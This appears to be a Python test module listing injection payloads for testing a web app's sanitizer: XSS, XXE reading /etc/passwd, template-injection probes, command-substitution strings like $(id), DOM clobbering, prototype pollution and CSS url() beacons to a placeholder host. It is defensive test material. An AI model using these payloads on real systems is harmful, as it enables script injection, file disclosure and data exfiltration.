"""Attack texts for other readers than HTML: JSON, XML, templates, style sheets, scripts of the page, search."""

from __future__ import annotations

from collections.abc import Iterator

from tests.text_attacks.attack import Fires, Road
from tests.text_attacks.families_markup import Family

SVG = 'xmlns="http://www.w3.org/2000/svg"'
XHTML = "http://www.w3.org/1999/xhtml"
XML = [
    *(
        f"<svg {SVG} onload='§'/>",
        f"<svg {SVG}><script>§</script></svg>",
        f"<svg {SVG}><script><![CDATA[§]]></script></svg>",
    ),
    *(
        f"<!DOCTYPE svg [<!ENTITY x '§'>]><svg {SVG}><script>&x;</script></svg>",
        f"<?xml version='1.0'?><svg {SVG} onload='§'/>",
    ),
    *(
        f"<!DOCTYPE svg SYSTEM 'https://¤/x.dtd'><svg {SVG} onload='§'/>",
        f"<?xml-stylesheet href='https://¤/x.css'?><svg {SVG}/>",
    ),
    *(f"<svg {SVG}><foreignObject><iframe xmlns='{XHTML}' src='javascript:parent.§'/></foreignObject></svg>",),
    *(
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>§</script></html>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
    ),
    *(
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'https://¤/p'> %p;]><a/>",
    ),
    *(
        "<!DOCTYPE z [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]><z>&b;</z>",
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='https://¤/i'/>",
    ),
    *(
        "]]><script>§</script>",
        "<![CDATA[</title><script>§</script>]]>",
        "]]>]]><![CDATA[",
        "</title></entry><entry><title>x",
        "</summary><script>§</script>",
    ),
    *(
        "&amp;lt;script&amp;gt;§",
        "&quot;&apos;&lt;&gt;",
        "</loc></url><url><loc>https://¤/",
        "<?php §; ?>",
        "&undefined;",
        "&#0;",
        "&#xD800;",
    ),
]
TEMPLATES = [
    *(
        "{{7*7}}",
        "{{ 7*7 }}",
        "{%7*7%}",
        "{% print(7*7) %}",
        "{# x #}",
        "${7*7}",
        "$${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<% §; %>",
        "{{= 7*7 }}",
    ),
    *(
        "[[7*7]]",
        "[[${7*7}]]",
        "@(7*7)",
        "%{7*7}",
        "{7*7}",
        "{{{7*7}}}",
        "{{'a'.constructor.prototype}}",
        "{{constructor.constructor('§')()}}",
    ),
    *(
        "{{config}}",
        "{{self.__init__.__globals__}}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as x %}",
        "{{ ''.__class__.__mro__ }}",
    ),
    *(
        "{{ vk.messages }}",
        "{{ page.meta }}",
        "@@vk:content@@",
        "@@vk:policy@@",
        "@@vk:head@@ @@vk:root@@",
        "%(num)s",
        "%(name)s",
        "%s%n%x",
        "{0}",
        "{name}",
    ),
    *(
        "$(7*7)",
        "`id`",
        "$(id)",
        "|id",
        ";id;",
        "&& id",
        "{{<img src=x onerror=§>}}",
        "v-html=§",
        "ng-app {{$eval('§')}}",
        "x:if=§ @click=§ :href=§",
    ),
]
NAMES = [
    *(
        '<a id=vkSettings href="https://¤/d">x</a>',
        '<a id=vkSettings><a id=vkSettings name=address href="https://¤/d">x</a>',
    ),
    *(
        '<form id=vkSettings><input name=address value="https://¤/d"></form>',
        '<img id=vkSettings src="https://¤/d">',
        "<img name=vkSettings src=//¤/d>",
    ),
    *(
        '<iframe name=vkSettings src="https://¤/d"></iframe>',
        "<object id=vkSettings data=//¤/d></object>",
        '<area id=vkSettings href="https://¤/d">',
    ),
    *(
        "<form name=body>",
        "<img name=getElementById>",
        "<img name=currentScript>",
        "<form id=location>",
        "<img name=cookie>",
        "<a id=trustedTypes>",
    ),
    *(
        "<form><input name=attributes><input name=parentNode></form>",
        "<embed name=querySelector>",
        "<form id=L>",
        "<a id=Supercluster>",
    ),
    *(
        "<div data-part=home>",
        "<div data-part=settings>",
        "<template data-part=story-card-template>",
        "<p id=vk-content>",
        "<p id=vk-search-text>",
    ),
    *(
        "<p class=is-lifted>",
        "<input form=vk-search name=q>",
        "<label for=vk-search-text>x</label>",
        "<slot name=link>",
        "<p data-slot=title data-story=0>",
    ),
]
KEYS = [
    *(
        "__proto__",
        "constructor",
        "prototype",
        "hasOwnProperty",
        "toString",
        "valueOf",
        "__defineGetter__",
        "__lookupSetter__",
        "isPrototypeOf",
    ),
    *(
        "__proto__[x]=1",
        "constructor[prototype][x]=1",
        '{"__proto__":{"x":1}}',
        "constructor.prototype.x",
        "__proto__.x",
        "then",
        "length",
        "undefined",
    ),
    *(
        "null",
        "NaN",
        "true",
        "-1",
        "1e309",
        "0x10",
        "[object Object]",
        "function(){}",
        "NaN NaN",
        "__proto__ constructor",
        "title:__proto__",
    ),
]
JSON_TEXTS = [
    *(
        '"',
        "\\",
        '\\"',
        '"}',
        '"}]}',
        '","x":"',
        '"],"x":["',
        "\\u0022",
        "\\n",
        "\\u2028",
        "/*",
        "*/",
        "//",
        "null,",
        "\\ud800",
        '{"a":1}',
        "]}",
    ),
    *("\u2028§\u2028", "\u2029§", '"\u2028§//', "\u2028</script><script>§</script>", "a\u0085b", "\\\u2028"),
]
SHEETS = [
    *(
        "p{background:url(//¤/s)}",
        "@import url(https://¤/c);p{background:url(https://¤/i)}",
        "</style><img src=//¤/e>",
        "p{background:u\\rl(//¤/x)}",
    ),
    *(
        "p{background-image:image-set('https://¤/i' 1x)}",
        "p::before{content:url(//¤/c)}",
        "p{cursor:url(//¤/c),auto}",
        "p{list-style-image:url(//¤/l)}",
    ),
    *(
        "}p{background:url(//¤/b)",
        "*{background:url(//¤/all)}",
        "@font-face{font-family:a;src:url(//¤/f)}p{font-family:a}",
        "p{mask:url(//¤/m#x)}",
    ),
]
STYLES = [
    "background:url(//¤/s)",
    "background-image:url('https://¤/s')",
    "border-image:url(//¤/b) 1;border:1px solid",
    "content:url(//¤/c)",
    "list-style:url(//¤/l);display:list-item",
]
OLD_STYLES = [
    *(
        "width:expression(§)",
        "width:ex/**/pression(§)",
        "xss:expr\\65ssion(§)",
        "behavior:url(#default#time2)",
        "behavior:url(//¤/x.htc)",
    ),
    *(
        "-moz-binding:url(//¤/x.xml#a)",
        "background:url(javascript:§)",
        "background:url(vbscript:§)",
        "@import 'javascript:§'",
        "-o-link:'javascript:§'",
    ),
    *("list-style-image:url(javascript:§)", "filter:progid:x(§)", "width:calc(expression(§))", "\\65xpression(§)"),
]
OLD_MARKUP = [
    *(
        "<img src=javascript:§>",
        "<img dynsrc=javascript:§>",
        "<img lowsrc=javascript:§>",
        "<input type=image src=javascript:§>",
        "<bgsound src=javascript:§>",
    ),
    *(
        "<link rel=stylesheet href=javascript:§>",
        "<table background=javascript:§>",
        "<br size=&{§}>",
        "<layer src=javascript:§>",
        "<xml src=javascript:§>",
    ),
    *(
        "<img src=vbscript:§>",
        "<body background=javascript:§>",
        "<a href=vbscript:§>x</a>",
        "<!--[if gte IE 4]><script>§</script><![endif]-->",
    ),
    *(
        "<comment><img src=</comment><img src=x onerror=§",
        "<xss style=xss:expression(§)>",
        "<?import namespace=t implementation=#default#time2>",
    ),
    *("<script for=x event=y>§<", "<scrscriptipt>§</scrscriptipt>", "<marquee loop=1 width=0 onfinish=§></marquee"),
]
UNICODE = [
    *(
        "＜script＞§＜/script＞",
        "＜img src=x onerror=§＞",
        "‹script›§‹/script›",
        "〈script〉§〈/script〉",
        "<ſcript>§</ſcript>",
        "<scrıpt>§</scrıpt>",
        "<ſvg onload=§>",
    ),
    *(
        "<ⓢcript>§</ⓢcript>",
        "<s\u200bcript>§</s\u200bcript>",
        "<\u00adscript>§</script>",
        "<\ufeffscript>§</script>",
        "java\u200bscript:§",
        "ｊavascript:§",
    ),
    *(
        "<img\u00a0src=x\u00a0onerror=§>",
        "<img\u2003src=x\u3000onerror=§>",
        "À¼scriptÀ¾§",
        "ʺonclick=§",
        "＂onclick=§",
        "＇onclick=§",
        "ʼ§",
        "≮script>§",
        "<\u0338script>§",
    ),
    *(
        "%C0%BCscript%C0%BE§",
        "%E0%80%BCscript>§",
        "%u003cscript%u003e§",
        "\\74script>§",
        "PHNjcmlwdD4=",
        "ﹰ<script>ﷺ",
        "🙈<svg onload=§>🙉",
    ),
    *(
        "<svg\u000conload=§>",
        "a\u2066<svg onload=§>\u2069",
        "\u202e>tpircs<§",
        "<scr\u0000ipt>§</scr\u0000ipt>",
        "\u0001<svg onload=§>",
        "<img src=x\u001bonerror=§>",
    ),
]


def other_families() -> Iterator[Family]:
    """All families of this module."""
    yield "XML of its own", Road.DOCUMENT, Fires.SCRIPT, XML
    yield "template", Road.HTML, Fires.SCRIPT, TEMPLATES
    yield "names in the page", Road.NAMED, Fires.REQUEST, NAMES
    yield "words of the language of scripts", Road.SCRIPT, Fires.NOTHING, KEYS
    yield "signs of JSON and separators", Road.SCRIPT, Fires.SCRIPT, JSON_TEXTS
    yield "style sheet", Road.SHEET, Fires.REQUEST, SHEETS
    yield "style", Road.STYLE, Fires.REQUEST, STYLES
    yield "style of old browsers", Road.STYLE, Fires.NOTHING, OLD_STYLES
    yield "mark-up of old browsers", Road.HTML, Fires.NOTHING, OLD_MARKUP
    yield "look-alikes and invisible signs", Road.HTML, Fires.SCRIPT, UNICODE
    long = "a" * 3000
    yield (
        "very long",
        Road.HTML,
        Fires.SCRIPT,
        [
            *(
                f"{long}<svg onload=§>",
                f"<svg onload=§>{long}",
                f"<a title='{long}' href=javascript:§>x</a>",
                f"[{'x' * 500}](javascript:§)",
            ),
            *(
                f"<img src=x onerror='/*{'x' * 2000}*/§'>",
                "<b>" * 60 + "<svg onload=§>",
                "> " * 20 + "<svg onload=§>",
                "&lt;" * 300 + "<script>§</script>",
            ),
        ],
    )
